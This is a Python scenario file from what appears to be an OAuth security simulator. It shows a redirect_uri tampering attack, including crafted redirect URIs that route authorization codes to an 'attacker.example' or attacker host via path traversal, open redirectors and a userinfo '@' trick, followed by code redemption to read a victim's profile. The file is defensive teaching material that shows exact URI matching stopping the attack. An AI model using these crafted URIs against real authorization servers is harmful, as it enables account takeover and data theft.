"""redirect-uri-tampering: the attacker sends the victim an authorization link whose
redirect_uri points elsewhere, hoping the code lands on the attacker's server (RFC 9700
§4.1.1). Exact redirect URI matching, with an error page (never a redirect) for an
unregistered URI, stops it (RFC 9700 §4.1.3, RFC 6749 §4.1.2.1).

The attacker first probes the authorization server with their own browser: one crafted
redirect_uri per pattern (extra path, other port, other host, an open-redirector URL on the
client's site, and `http://<client host:port>@<attacker host:port>/steal`, whose authority is
really the attacker's). An accepted URI answers with the login redirect, a refused one with
the 400 error page. The link is built for the public SPA client, with the attacker's own PKCE
challenge: PKCE cannot help when the attacker starts the flow. With exact matching every
probe is refused and so is the victim's link. With prefix matching (the registered URI's
origin as a prefix), the `@` link passes: alice logs in, approves, and her browser takes the
code to the attacker, who redeems it and reads her profile.
"""

from __future__ import annotations

import secrets
from urllib.parse import quote, urlsplit

from sim import defences
from sim.parties import ATTACKER, AUTHORIZATION_SERVER, USER_AGENT
from sim.scenarios.attack_common import (
    SPA,
    error_of,
    pkce_pair,
    profile_owner,
    read_profile,
    spa_authorization_url,
    spa_redirect_uri,
)
from sim.scenarios.base import (
    AttackScenario,
    Attempt,
    Guard,
    StepNote,
    log_in_and_consent,
    step,
)


def crafted_redirect_uris(stage) -> dict[str, str]:
    """The attacker's candidate redirect URIs, by the pattern each one tries."""
    registered = spa_redirect_uri(stage)
    client, attacker = (urlsplit(u).netloc for u in (stage.client_url, stage.attacker_url))
    return {
        "extra path": registered + "/../../steal",
        "other port": f"http://{attacker}{SPA.redirect_path}",
        "other host": f"http://attacker.example{SPA.redirect_path}",
        "open redirector": f"{stage.client_url}/redirect?to={quote(stage.attacker_url + '/steal')}",
        "prefix + userinfo": f"http://{client}@{attacker}/steal",
    }


def _authority(url: str) -> str:
    """host:port a browser would connect to (userinfo before `@` is not part of it)."""
    parts = urlsplit(url)
    return f"{parts.hostname}:{parts.port}"


class RedirectUriTampering(AttackScenario):
    name = "redirect-uri-tampering"
    description = "A crafted link with a redirect_uri of the attacker's (exact matching)"
    rfc = "RFC 9700 §4.1, RFC 6749 §4.1.2.1"
    guards = (
        Guard(
            defences.EXACT_REDIRECT_URI,
            step(USER_AGENT, AUTHORIZATION_SERVER, "GET", "/authorize"),
            "not exactly a registered redirect_uri: an error page, never a redirect",
            "prefix matching accepts a redirect_uri whose host is the attacker's",
            "RFC 9700 §4.1.3, RFC 6749 §4.1.2.1",
        ),
    )

    notes = (
        StepNote(
            step(USER_AGENT, ATTACKER, "GET", "/steal"),
            "The browser follows the redirect where the accepted redirect_uri points: the "
            "authorization response, code included, lands on the attacker's server.",
            "RFC 9700 §4.1.1",
        ),
    )

    def attack(self, stage, flow, off, attacker) -> Attempt:
        verifier, challenge = pkce_pair()  # the attacker's own
        state = secrets.token_urlsafe(16)
        attacker_host = _authority(stage.attacker_url)

        def link(redirect_uri: str) -> str:
            return spa_authorization_url(stage, state, challenge, redirect_uri=redirect_uri)

        probes = {}
        usable = None
        for pattern, uri in crafted_redirect_uris(stage).items():
            answer = attacker.browser.get(link(uri))
            probes[pattern] = answer.status_code
            if answer.is_redirect and _authority(uri) == attacker_host and usable is None:
                usable = uri
        # The attacker sends alice the link they hope works (the last pattern if none did).
        chosen = usable or crafted_redirect_uris(stage)["prefix + userinfo"]
        victim = stage.user_agent(flow)
        first = victim.open(attacker.lure(link(chosen)))
        if first.status_code == 200 and 'name="password"' in first.text:
            log_in_and_consent(victim, first)
        code = attacker.last("leak", "code")
        redeemed = profile = None
        if code:
            redeemed = attacker.http.post(
                stage.authorization_server_url + "/token",
                data={
                    "grant_type": "authorization_code",
                    "code": code,
                    "redirect_uri": chosen,
                    "client_id": SPA.client_id,
                    "code_verifier": verifier,
                },
                timeout=10,
            )
            if redeemed.ok:
                profile = read_profile(attacker.http, stage, redeemed.json()["access_token"])
        owner = profile_owner(profile)
        return Attempt(
            {
                "probes": probes,
                "victim_link_redirect_uri": chosen,
                "code_reached_attacker": bool(code),
                "attacker_token_status": redeemed.status_code if redeemed is not None else None,
                "attacker_token_error": error_of(redeemed) or None,
                "attacker_read_profile_of": owner,
            },
            proof=profile if owner == "alice" else None,
            proves="the attacker reads alice's profile with the code her browser brought it",
        )


SCENARIOS = [RedirectUriTampering()]
